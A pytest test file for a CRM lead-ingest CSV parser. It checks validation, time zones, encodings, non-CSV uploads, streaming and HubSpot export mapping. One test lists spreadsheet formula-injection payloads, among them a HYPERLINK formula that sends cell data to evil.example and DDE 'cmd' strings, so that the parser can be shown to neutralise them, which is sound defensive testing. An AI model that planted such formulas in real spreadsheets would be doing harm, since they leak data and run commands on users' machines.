"""Tests of leads.formats with small synthetic CSV files (no Django, no database)."""

import inspect
import io
import zipfile
from datetime import UTC, datetime

import pytest

from leads.ingest.events_csv import iter_events_csv
from leads.ingest.formats import CHANNELS, KINDS, STAGES, FormatError, ParsedEvent, RowIssue
from leads.ingest.hubspot_csv import iter_hubspot_csv

HEADER = (
    "source,event_id,lead_external_id,kind,occurred_at,actor_email,to_stage,channel,outcome,"
    "reason_code,note,email,first_name,last_name,company,job_title,industry,company_size,lead_source"
)
COLS = HEADER.split(",")


def line(**values: str) -> str:
    base = {
        "source": "crm",
        "event_id": "e1",
        "lead_external_id": "L1",
        "kind": "created",
        "occurred_at": "2026-03-02T16:30:00+01:00",
    }
    base.update(values)
    out = []
    for col in COLS:
        v = base.get(col, "")
        if any(c in v for c in ',"\n\r'):
            v = '"' + v.replace('"', '""') + '"'
        out.append(v)
    return ",".join(out)


def events_file(*rows: str, header: str = HEADER, bom: bool = False) -> io.BytesIO:
    text = "\r\n".join([header, *rows]) + "\r\n"
    data = text.encode("utf-8")
    if bom:
        data = b"\xef\xbb\xbf" + data
    return io.BytesIO(data)


def parse(stream, parser=iter_events_csv, **kw):
    out = list(parser(stream, **kw))
    events = [r for r in out if isinstance(r, ParsedEvent)]
    issues = [r for r in out if isinstance(r, RowIssue)]
    assert len(events) + len(issues) == len(out)
    return events, issues


def errors(issues):
    return [i for i in issues if i.severity == "error"]


# ----------------------------------------------------------------- good input


def test_a_good_row_becomes_an_event_with_all_its_fields():
    f = events_file(
        line(
            kind="stage_changed",
            to_stage="MQL",
            actor_email="Ana@Example.com",
            reason_code="R1",
            note="hello, world",
            email="lead@acme.io",
            first_name="Lea",
            company="Acme",
            company_size="51-200",
        )
    )
    events, issues = parse(f)
    assert issues == []
    (ev,) = events
    assert ev.row == 2
    assert (ev.source, ev.event_id, ev.lead_external_id) == ("crm", "e1", "L1")
    assert ev.kind == "stage_changed" and ev.to_stage == "mql"
    assert ev.occurred_at == datetime(2026, 3, 2, 15, 30, tzinfo=UTC)
    assert ev.occurred_at.tzinfo is UTC
    assert ev.actor_email == "ana@example.com"
    assert ev.note == "hello, world"
    assert ev.lead == {
        "email": "lead@acme.io",
        "first_name": "Lea",
        "company": "Acme",
        "company_size": "51-200",
    }


def test_a_utf8_bom_is_accepted():
    events, issues = parse(events_file(line(first_name="Zoë"), bom=True))
    assert issues == []
    assert events[0].lead == {"first_name": "Zoë"}


def test_a_z_suffix_is_read_as_utc():
    (ev,), _ = parse(events_file(line(occurred_at="2026-03-02T15:30:00Z")))
    assert ev.occurred_at == datetime(2026, 3, 2, 15, 30, tzinfo=UTC)


def test_timestamps_without_offset_are_read_in_the_default_time_zone():
    f = events_file(
        line(event_id="winter", occurred_at="2026-01-15T09:00:00"),
        line(event_id="summer", occurred_at="2026-07-15 09:00"),
    )
    events, issues = parse(f, default_tz="Europe/Paris")
    assert issues == []
    assert [e.occurred_at for e in events] == [
        datetime(2026, 1, 15, 8, 0, tzinfo=UTC),
        datetime(2026, 7, 15, 7, 0, tzinfo=UTC),
    ]


def test_timestamps_without_offset_default_to_utc():
    (ev,), _ = parse(events_file(line(occurred_at="2026-01-15T09:00:00")))
    assert ev.occurred_at == datetime(2026, 1, 15, 9, 0, tzinfo=UTC)


def test_an_unknown_default_time_zone_is_a_value_error():
    with pytest.raises(ValueError, match="time zone"):
        list(iter_events_csv(events_file(line()), default_tz="Mars/Olympus"))


def test_row_numbers_are_spreadsheet_rows_even_with_blank_and_multiline_rows():
    f = events_file(
        line(event_id="a", note="two\nlines"),
        "",
        line(event_id="b", kind="nope"),
    )
    events, issues = parse(f)
    assert events[0].row == 2 and events[0].note == "two\nlines"
    assert [i.row for i in issues] == [4]


def test_header_names_are_matched_case_insensitively_and_extra_columns_are_ignored():
    header = "Source , EVENT_ID,lead_external_id,kind,occurred_at,whatever"
    f = io.BytesIO(f"{header}\ncrm,e1,L1,note,2026-03-02T10:00:00Z,x\n".encode())
    (ev,), issues = parse(f)
    assert issues == [] and ev.kind == "note"


def test_a_header_only_file_yields_nothing():
    assert list(iter_events_csv(events_file())) == []


def test_good_rows_still_come_through_around_bad_rows():
    f = events_file(line(event_id="1"), line(event_id="2", kind="bad"), line(event_id="3"))
    events, issues = parse(f)
    assert [e.event_id for e in events] == ["1", "3"]
    assert [(i.row, i.column) for i in issues] == [(3, "kind")]


def test_the_vocabularies_match_compliance_md():
    assert KINDS == (
        "created",
        "stage_changed",
        "contact_attempt",
        "score_changed",
        "owner_changed",
        "note",
    )
    assert STAGES[:7] == ("lead", "mql", "sal", "sql", "opportunity", "won", "lost")
    assert set(STAGES[7:]) == {"recycled", "disqualified"}
    assert CHANNELS == ("phone", "email", "video", "meeting", "other")


# ----------------------------------------------------------------- row-level problems


@pytest.mark.parametrize(
    ("values", "column", "words"),
    [
        ({"kind": "called"}, "kind", ["'called'", "stage_changed", "contact_attempt"]),
        ({"kind": "stage_changed", "to_stage": "closed"}, "to_stage", ["'closed'", "disqualified"]),
        ({"kind": "stage_changed"}, "to_stage", ["required for stage_changed"]),
        ({"kind": "contact_attempt"}, "channel", ["required for contact_attempt", "phone"]),
        ({"kind": "contact_attempt", "channel": "fax"}, "channel", ["'fax'", "meeting"]),
        ({"kind": ""}, "kind", ["required"]),
        ({"source": ""}, "source", ["required"]),
        ({"event_id": "  "}, "event_id", ["required"]),
        ({"lead_external_id": ""}, "lead_external_id", ["required"]),
        ({"occurred_at": ""}, "occurred_at", ["required"]),
        ({"actor_email": "not an email"}, "actor_email", ["not a valid email"]),
    ],
)
def test_invalid_values_give_an_error_naming_the_column_and_the_allowed_values(
    values, column, words
):
    events, issues = parse(events_file(line(**values)))
    assert events == []
    errs = errors(issues)
    assert [e.column for e in errs] == [column]
    assert errs[0].row == 2
    for w in words:
        assert w in errs[0].message


@pytest.mark.parametrize(
    "value",
    [
        "yesterday",
        "2026-02-30T10:00:00Z",
        "2026-03-02",
        "02/03/2026 10:00",
        "2026-03-02T25:00:00",
        "2026-03-02T10:00:00+99:00",
        "9" * 300,
    ],
)
def test_a_bad_timestamp_is_an_error_naming_the_column_and_the_truncated_value(value):
    events, issues = parse(events_file(line(occurred_at=value)))
    assert events == []
    (err,) = errors(issues)
    assert err.column == "occurred_at"
    assert "occurred_at" in err.message and "ISO 8601" in err.message
    assert value[:20] in err.message
    assert len(err.message) < 250


def test_to_stage_and_channel_on_other_kinds_are_dropped_with_a_warning():
    (ev,), issues = parse(events_file(line(kind="note", to_stage="mql", channel="phone")))
    assert ev.to_stage == "" and ev.channel == ""
    assert {(i.column, i.severity) for i in issues} == {
        ("to_stage", "warning"),
        ("channel", "warning"),
    }


def test_a_bad_lead_email_is_a_warning_and_is_dropped():
    (ev,), issues = parse(events_file(line(email="nobody at nowhere", first_name="Ann")))
    assert ev.lead == {"first_name": "Ann"}
    assert [(i.column, i.severity) for i in issues] == [("email", "warning")]


@pytest.mark.parametrize(
    ("column", "limit"),
    [("first_name", 255), ("company", 255), ("note", 5000), ("event_id", 255)],
)
def test_a_value_over_its_length_limit_is_an_error(column, limit):
    events, issues = parse(events_file(line(**{column: "x" * (limit + 1)})))
    assert events == []
    (err,) = errors(issues)
    assert err.column == column
    assert f"{limit + 1} characters" in err.message and str(limit) in err.message


def test_a_value_at_its_length_limit_is_accepted():
    (ev,), issues = parse(events_file(line(note="x" * 5000, company="y" * 255)))
    assert issues == []
    assert len(ev.note) == 5000


def test_a_100_kb_field_is_a_row_error_not_a_crash():
    big = "x" * (100 * 1024)
    f = events_file(line(event_id="1", note=big), line(event_id="2"))
    events, issues = parse(f)
    assert [e.event_id for e in events] == ["2"]
    (err,) = errors(issues)
    assert (err.row, err.column) == (2, "note")
    assert "102400 characters" in err.message and "5000" in err.message


def test_a_field_bigger_than_the_csv_module_default_limit_is_a_row_error():
    big = "x" * (300 * 1024)  # the csv module's own default limit is 128 KiB
    f = events_file(line(event_id="1", company=big), line(event_id="2"))
    events, issues = parse(f)
    assert [e.event_id for e in events] == ["2"]
    assert [(i.row, i.column) for i in errors(issues)] == [(2, "company")]


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "=1+1",
        "+SUM(A1:A9)",
        "-SUM(A1:A9)",
        "@SUM(A1:A9)",
        "@cmd",
        "-2+3+cmd|' /C calc'!A0",
        "+A1",
        "\t=1+1",
        "\r=cmd",
    ],
)
def test_a_formula_in_a_text_field_is_kept_neutralised_with_a_warning(value):
    (ev,), issues = parse(events_file(line(note=value, company=value)))
    assert ev.note == "'" + value.strip()
    assert ev.lead["company"] == "'" + value.strip()
    assert {(i.column, i.severity) for i in issues} == {("note", "warning"), ("company", "warning")}
    assert all("formula" in i.message for i in issues)


@pytest.mark.parametrize(
    "value", ["-5", "+33 1 23 45 67 89", "- called back", "@ 10am", "a=b", "Smith-Jones"]
)
def test_ordinary_text_that_starts_like_a_formula_is_left_alone(value):
    (ev,), issues = parse(events_file(line(note=value)))
    assert issues == []
    assert ev.note == value


def test_a_formula_in_an_email_is_refused_as_an_email():
    events, issues = parse(events_file(line(actor_email="=cmd|x@evil.com")))
    assert events == []
    assert errors(issues)[0].column == "actor_email"


def test_extra_values_beyond_the_header_are_an_error_unless_empty():
    f = events_file(line(event_id="1") + ",,", line(event_id="2") + ",surprise")
    events, issues = parse(f)
    assert [e.event_id for e in events] == ["1"]
    assert [i.row for i in errors(issues)] == [3]
    assert "20 values" in errors(issues)[0].message


def test_a_non_utf8_byte_after_the_start_is_an_error_for_its_row():
    good = (line(event_id="pad", note="p" * 200) + "\r\n") * 400  # past the 64 KiB sniff
    data = (
        (HEADER + "\r\n" + good).encode()
        + line(event_id="bad", first_name="Zo\xeb").encode("latin-1")
        + b"\r\n"
        + line(event_id="after").encode()
        + b"\r\n"
    )
    events, issues = parse(io.BytesIO(data))
    assert len(events) == 401 and events[-1].event_id == "after"
    (err,) = errors(issues)
    assert err.row == 402
    assert "UTF-8" in err.message and "0xeb" in err.message


# ----------------------------------------------------------------- whole-file problems


def test_a_latin1_file_is_a_format_error_naming_the_line():
    data = (HEADER + "\r\n" + line(first_name="Zo\xeb")).encode("latin-1")
    with pytest.raises(FormatError, match=r"not UTF-8.*0xeb on line 2"):
        list(iter_events_csv(io.BytesIO(data)))


def test_a_utf16_file_is_a_format_error():
    data = (HEADER + "\r\n" + line()).encode("utf-16")
    with pytest.raises(FormatError, match="UTF-16"):
        list(iter_events_csv(io.BytesIO(data)))


def test_a_missing_required_column_is_a_format_error_listing_all_of_them():
    header = "source,lead_external_id,kind"
    with pytest.raises(FormatError, match="missing required columns: event_id, occurred_at"):
        list(iter_events_csv(io.BytesIO(f"{header}\ncrm,L1,created\n".encode())))


def test_a_duplicated_column_is_a_format_error():
    header = HEADER + ",note"
    with pytest.raises(FormatError, match="'note' twice"):
        list(iter_events_csv(events_file(header=header)))


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"  \r\n\r\n"])
def test_an_empty_file_is_a_format_error(data):
    with pytest.raises(FormatError, match="empty"):
        list(iter_events_csv(io.BytesIO(data)))


def _zip_bytes() -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("events.csv", HEADER)
    return buf.getvalue()


@pytest.mark.parametrize(
    "data",
    [
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)),
        _zip_bytes(),
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 64,
        b"source\x00event_id\x00\x01\x02",
        b'{"events": []}',
        b"<html><body>hello</body></html>",
    ],
    ids=["png", "zip", "pdf", "xls", "nul", "json", "html"],
)
def test_a_non_csv_upload_is_a_format_error(data):
    with pytest.raises(FormatError, match="not a CSV file"):
        list(iter_events_csv(io.BytesIO(data)))


@pytest.mark.parametrize(
    "data",
    [
        b"\xff" * 10,
        b"\x00",
        b"\n\n\n" + b'"' * 5000,
        b'source,event_id\n"' + b"x" * 200_000,
        bytes(range(256)) * 4,
        b"a,b\r\n\xef\xbb\xbf,\r\n",
    ],
)
def test_hostile_inputs_never_raise_anything_but_format_error(data):
    for parser in (iter_events_csv, iter_hubspot_csv):
        try:
            for rec in parser(io.BytesIO(data)):
                assert isinstance(rec, ParsedEvent | RowIssue)
        except FormatError as exc:
            assert str(exc)


# ----------------------------------------------------------------- streaming


class CountingStream(io.RawIOBase):
    """A readable binary stream of `rows` events that counts the bytes handed out."""

    def __init__(self, rows: int):
        self.bytes_read = 0
        self._chunks = self._gen(rows)
        self._pending = b""

    @staticmethod
    def _gen(rows):
        yield (HEADER + "\r\n").encode()
        for i in range(rows):
            yield (line(event_id=str(i), note="n" * 100) + "\r\n").encode()

    def readable(self):
        return True

    def readinto(self, b):
        while not self._pending:
            try:
                self._pending = next(self._chunks)
            except StopIteration:
                return 0
        n = min(len(b), len(self._pending))
        b[:n] = self._pending[:n]
        self._pending = self._pending[n:]
        self.bytes_read += n
        return n


def test_the_parsers_are_generators():
    assert inspect.isgeneratorfunction(iter_events_csv)
    assert inspect.isgeneratorfunction(iter_hubspot_csv)


def test_the_parser_yields_the_first_record_before_reading_the_whole_stream():
    rows = 200_000  # about 40 MB if it were read fully
    stream = CountingStream(rows)
    it = iter_events_csv(stream)
    first = next(it)
    assert isinstance(first, ParsedEvent) and first.event_id == "0"
    assert stream.bytes_read < 256 * 1024
    for _ in range(1000):
        next(it)
    assert stream.bytes_read < 512 * 1024


# ----------------------------------------------------------------- HubSpot export

HS_HEADER = (
    "Record ID,First Name,Last Name,Email,Phone Number,Company Name,Job Title,Industry,"
    "Lifecycle Stage,Lead Status,Contact owner,Create Date,Original Source,"
    "Became a Lead Date,Became a Marketing Qualified Lead Date,"
    "Became a Sales Qualified Lead Date,Became an Opportunity Date,Became a Customer Date"
)


def hs_file(*rows: str, header: str = HS_HEADER) -> io.BytesIO:
    return io.BytesIO(("\ufeff" + "\r\n".join([header, *rows]) + "\r\n").encode())


def test_a_hubspot_export_maps_to_created_and_stage_events_in_time_order():
    row = (
        "1001,Lea,Martin,lea@acme.io,+33 1 23,Acme,CTO,Software,salesqualifiedlead,OPEN,"
        "owner@ourco.com,2026-03-01 09:15,Organic Search,"
        "2026-03-01 09:15:00,2026-03-03 10:00,2026-03-02T14:00:00Z,,"
    )
    events, issues = parse(hs_file(row), iter_hubspot_csv, default_tz="Europe/Paris")
    assert issues == []
    assert [(e.kind, e.to_stage, e.event_id) for e in events] == [
        ("created", "", "1001:created"),
        ("stage_changed", "lead", "1001:lead"),
        ("stage_changed", "sql", "1001:sql"),
        ("stage_changed", "mql", "1001:mql"),
    ]
    assert events[0].occurred_at == datetime(2026, 3, 1, 8, 15, tzinfo=UTC)
    assert events[2].occurred_at == datetime(2026, 3, 2, 14, 0, tzinfo=UTC)
    for e in events:
        assert (e.source, e.lead_external_id, e.row, e.actor_email) == ("hubspot", "1001", 2, "")
        assert e.lead == {
            "first_name": "Lea",
            "last_name": "Martin",
            "email": "lea@acme.io",
            "company": "Acme",
            "job_title": "CTO",
            "industry": "Software",
            "lead_source": "Organic Search",
            "owner_email": "owner@ourco.com",
        }


def test_hubspot_event_ids_are_stable_across_exports():
    first = hs_file("7,A,,,,,,,,,,2026-01-05 10:00,,2026-01-05 10:00,,,,")
    later = hs_file(
        "7,A,,,,,,,,,,2026-01-05 10:00,,2026-01-05 10:00,2026-02-01 08:00,,,2026-04-01 12:00"
    )
    ids_first = [e.event_id for e in parse(first, iter_hubspot_csv)[0]]
    ids_later = [e.event_id for e in parse(later, iter_hubspot_csv)[0]]
    assert ids_first == ["7:created", "7:lead"]
    assert ids_later == ["7:created", "7:lead", "7:mql", "7:won"]
    assert set(ids_first) <= set(ids_later)


def test_a_hubspot_export_with_only_some_columns_is_read():
    f = io.BytesIO(
        b"Create Date,Record ID,Became a Customer Date\n2026-01-01 10:00,9,2026-02-01 10:00\n"
    )
    events, issues = parse(f, iter_hubspot_csv)
    assert issues == []
    assert [(e.event_id, e.lead) for e in events] == [("9:created", {}), ("9:won", {})]


def test_a_hubspot_row_with_a_bad_date_is_an_error_and_yields_no_event():
    f = hs_file(
        "1,,,,,,,,,,,2026-03-01 09:15,,31/12/2025,,,,",
        "2,,,,,,,,,,,2026-03-01 09:15,,,,,,",
    )
    events, issues = parse(f, iter_hubspot_csv)
    assert [e.event_id for e in events] == ["2:created"]
    (err,) = errors(issues)
    assert (err.row, err.column) == (2, "Became a Lead Date")
    assert "'31/12/2025'" in err.message


def test_a_hubspot_row_without_record_id_is_an_error():
    events, issues = parse(hs_file(",,,,,,,,,,,2026-03-01 09:15,,,,,,"), iter_hubspot_csv)
    assert events == []
    assert [(i.column, i.severity) for i in issues] == [("Record ID", "error")]


def test_a_hubspot_owner_name_instead_of_email_is_dropped_with_a_warning():
    f = hs_file("3,,,,,,,,,,Jane Doe,2026-03-01 09:15,,,,,,")
    (ev,), issues = parse(f, iter_hubspot_csv)
    assert ev.lead == {}
    assert [(i.column, i.severity) for i in issues] == [("Contact owner", "warning")]


def test_a_hubspot_row_without_dates_gives_a_warning_and_no_event():
    events, issues = parse(hs_file("4,Al,,,,,,,,,,,,,,,,"), iter_hubspot_csv)
    assert events == []
    assert [i.severity for i in issues] == ["warning"]


def test_a_hubspot_formula_in_a_name_is_neutralised():
    f = hs_file('5,"=HYPERLINK(""http://x"",""y"")",,,,,,,,,,2026-03-01 09:15,,,,,,')
    (ev,), issues = parse(f, iter_hubspot_csv)
    assert ev.lead["first_name"] == '\'=HYPERLINK("http://x","y")'
    assert [(i.column, i.severity) for i in issues] == [("First Name", "warning")]


def test_a_hubspot_export_missing_record_id_is_a_format_error():
    with pytest.raises(FormatError, match="missing required column: Record ID"):
        list(iter_hubspot_csv(hs_file(header="First Name,Create Date")))


def test_the_events_parser_refuses_a_hubspot_export_by_its_columns():
    with pytest.raises(FormatError, match="source, event_id, lead_external_id, kind, occurred_at"):
        list(iter_events_csv(hs_file("1,,,,,,,,,,,2026-03-01 09:15,,,,,,")))


def test_row_and_file_messages_go_through_the_translation_catalog(monkeypatch):
    # given a catalog that marks every message it translates
    for module in ("csvread", "events_csv"):
        monkeypatch.setattr(f"leads.ingest.{module}._", lambda message: f"«{message}»")
    header = b"source,event_id,lead_external_id,kind,occurred_at"
    # when an empty file, a file missing a column and a row with an unknown kind are read
    with pytest.raises(FormatError) as empty:
        list(iter_events_csv(io.BytesIO(b"")))
    with pytest.raises(FormatError) as missing:
        list(iter_events_csv(io.BytesIO(b"source,event_id,kind\ncrm,e1,note\n")))
    issues = list(iter_events_csv(io.BytesIO(header + b"\ncrm,e1,L1,party,2026-03-02T16:30:00Z\n")))
    # then each message is the catalog's, with its values filled in after translation
    assert str(empty.value) == "«the file is empty: expected a CSV file with a header row»"
    assert "missing required columns: lead_external_id, occurred_at" in str(missing.value)
    assert issues[0].message == (
        "«kind 'party' is not one of: created, stage_changed, contact_attempt, "
        "score_changed, owner_changed, note»"
    )
